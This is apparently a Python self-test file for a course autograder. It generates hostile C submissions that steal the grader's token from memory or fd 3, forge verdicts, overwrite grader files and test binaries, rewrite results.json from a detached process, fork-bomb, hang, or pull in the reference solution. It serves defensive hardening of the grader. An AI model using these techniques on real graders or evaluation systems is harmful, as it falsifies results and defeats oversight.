# Attacks on the autograder, as a hostile student would write them: each is a lab 1 submission built on the
# starter (so an honest grade is 0); the grader must give it 0 and stay bounded and untouched.
import os
import re

HEADERS = """#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>
"""

PASS = 'printf("[  PASSED  ] 1 test(s).\\n"); fflush(stdout);'

# Name -> C code defining `static void attack(void)` (called first thing in lab1_vcpu_setup_real, which the tests of
# the real-mode set-up call) and anything it needs. {repo}, {json} are filled in.
ATTACK_CODE = {
    # (b) the grader's token, wherever it is in this process's memory (the stack up to the environment): print it.
    "token-from-memory": r"""
extern char **environ;
static int hexch(char c) { return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f'); }
static void attack(void)
{
    volatile char here = 0;
    for (char *p = (char *)&here; p + 33 < (char *)environ; p++) {
        int n = 0;
        while (n < 32 && hexch(p[n]))
            n++;
        if (n == 32 && p[32] == 0 && !hexch(p[-1])) {
            printf("[  PASSED  ] 1 test(s).\ngrader-token %.32s\n", p);
            fflush(stdout);
            _exit(0);
        }
    }
    PASS_LINE
    _exit(0);
}
""",
    # (c) a constructor runs before main: take what the grader hands on fd 3, put it back so nothing looks amiss.
    "constructor-reads-fd3": r"""
static char stolen[128];
__attribute__((constructor)) static void steal(void)
{
    int p[2];
    ssize_t n = read(3, stolen, sizeof(stolen) - 1);
    if (n > 0 && pipe(p) == 0) {
        stolen[n] = 0;
        if (write(p[1], stolen, (size_t)n) != n) stolen[0] = 0;
        close(p[1]);
        dup2(p[0], 3);
        close(p[0]);
    }
}
static void attack(void)
{
    PASS_LINE
    if (stolen[0])
        printf("grader-token %s\n", stolen);
    fflush(stdout);
    _exit(0);
}
""",
    # (h) write the verdict the harness would write, on the channel the grader reads, then leave before the test can
    # fail. Code in the test process can always do what the harness does: only the build's checks stop this one.
    "forge-verdict": r"""
static void attack(void)
{
    dprintf(3, "verdict failed=0\n");
    close(3);
    PASS_LINE
    _exit(0);
}
""",
    # (d) rewrite the grader, a hidden test, and the built test binaries (by a script that passes).
    "tamper-grader-files": r"""
static void replace(const char *dir, const char *name)
{
    char path[4200], tmp[4300];
    FILE *f;
    snprintf(path, sizeof(path), "%s/%s", dir, name);
    snprintf(tmp, sizeof(tmp), "%s.new", path);
    if (!(f = fopen(tmp, "w")))
        return;
    fputs("#!/bin/sh\nt=$(head -c 64 <&3 2>/dev/null)\necho 'verdict failed=0' >&3 2>/dev/null\n"
          "echo '[  PASSED  ] 1 test(s).'\necho \"grader-token $t\"\nexit 0\n", f);
    fclose(f);
    chmod(tmp, 0755);
    rename(tmp, path);
}
static void attack(void)
{
    char self[4096];
    ssize_t n;
    FILE *f;
    if ((f = fopen("{repo}/tests/grading/grade.py", "a"))) { fputs("\n# tampered by a submission\n", f); fclose(f); }
    if ((f = fopen("{repo}/tests/hidden/lab1/test_lab1_hidden.c", "a"))) { fputs("\n/* tampered */\n", f); fclose(f); }
    n = readlink("/proc/self/exe", self, sizeof(self) - 1);
    if (n > 0) {
        self[n] = 0;
        if (strrchr(self, '/'))
            *strrchr(self, '/') = 0;
        replace(self, "test_lab1");
        replace(self, "test_lab1_hidden");
    }
}
""",
    # (e) a process that outlives the grader and rewrites results.json after it is written.
    "background-rewrites-results": r"""
static void attack(void)
{
    int fd;
    if (fork() != 0)
        return;
    setsid();
    if (fork() != 0)
        _exit(0);
    prctl(PR_SET_NAME, "mvmattack-e");
    fd = open("/dev/null", O_RDWR);
    dup2(fd, 0); dup2(fd, 1); dup2(fd, 2);
    for (int i = 0; i < 120; i++) {
        FILE *f = fopen("{json}", "w");
        if (f) { fputs("{\"score\": 1000, \"output\": \"rewritten\", \"tests\": []}", f); fclose(f); }
        usleep(100000);
    }
    _exit(0);
}
""",
    # (f) a fork bomb (bounded here at 2^8 per test so the old grader does not take the machine down).
    "fork-bomb": r"""
static void attack(void)
{
    pid_t me = getpid();
    for (int i = 0; i < 8; i++)
        fork();
    if (getpid() != me) {
        int fd = open("/dev/null", O_RDWR);
        prctl(PR_SET_NAME, "mvmattack-f");
        dup2(fd, 0); dup2(fd, 1); dup2(fd, 2);
        sleep(8);
        _exit(0);
    }
}
""",
    # (g) a submission that sleeps in every test: the whole grade must stay bounded.
    "sleeps-forever": r"""
static void attack(void)
{
    for (;;)
        sleep(1);
}
""",
}

# (a) the reference solution itself, by relative path, by absolute path, or by its renamed symbols in the binary.
WHOLE_FILES = {
    "include-solution-relative": '#include "../../../../solutions/lab1-realmode/lab1_realmode.c"\n',
    "include-solution-absolute": '#include "{repo}/solutions/lab1-realmode/lab1_realmode.c"\n',
    # Defining nothing: each lab function the file leaves out has a weak stand-in in the kit that calls the reference.
    "define-nothing-get-reference": '#include "lab_parts.h"\n',
    "call-reference-symbols": """#include "lab_parts.h"
int ref_lab1_vcpu_setup_real(struct mvm_vcpu *vcpu, uint64_t entry_gpa);
int ref_lab1_exit_io(struct mvm_vcpu *vcpu, struct kvm_run *run);
int ref_lab1_exit_hlt(struct mvm_vcpu *vcpu, struct kvm_run *run);
int lab1_vcpu_setup_real(struct mvm_vcpu *vcpu, uint64_t entry_gpa) { return ref_lab1_vcpu_setup_real(vcpu, entry_gpa); }
int lab1_exit_io(struct mvm_vcpu *vcpu, struct kvm_run *run) { return ref_lab1_exit_io(vcpu, run); }
int lab1_exit_hlt(struct mvm_vcpu *vcpu, struct kvm_run *run) { return ref_lab1_exit_hlt(vcpu, run); }
""",
}


def attack_source(name, starter_text, repo, json_path):
    """The submission's lab1_realmode.c for attack `name`."""
    if name in WHOLE_FILES:
        return WHOLE_FILES[name].replace("{repo}", repo)
    code = ATTACK_CODE[name].replace("{repo}", repo).replace("{json}", json_path).replace("PASS_LINE", PASS)
    text, n = re.subn(r"(int lab1_vcpu_setup_real\(struct mvm_vcpu \*vcpu, uint64_t entry_gpa\)\n\{\n)",
                      r"\1    attack();\n", starter_text, count=1)
    if n != 1:
        raise RuntimeError("the lab 1 starter no longer has lab1_vcpu_setup_real: update tests/grading/attacks.py")
    return HEADERS + code + text


ATTACKS = list(WHOLE_FILES) + list(ATTACK_CODE)
# The attacks that the runtime sandbox must stop on its own, with the build's source checks switched off
# (grade.py --unsafe-skip-source-checks, for this self-test only). forge-verdict and constructor-reads-fd3 are not
# among them: code inside the test process can do what the harness does, so the build refuses that code instead.
# Stopped at run time only by the sandbox hiding the kit's files (a mount namespace); where the grader cannot make
# one (in a chroot, user namespaces are refused) the self-test skips them in the runtime-only pass.
NEEDS_HIDDEN_KIT = ["include-solution-absolute"]
RUNTIME_ATTACKS = ["include-solution-relative", "include-solution-absolute", "token-from-memory",
                   "tamper-grader-files", "background-rewrites-results", "fork-bomb", "sleeps-forever"]
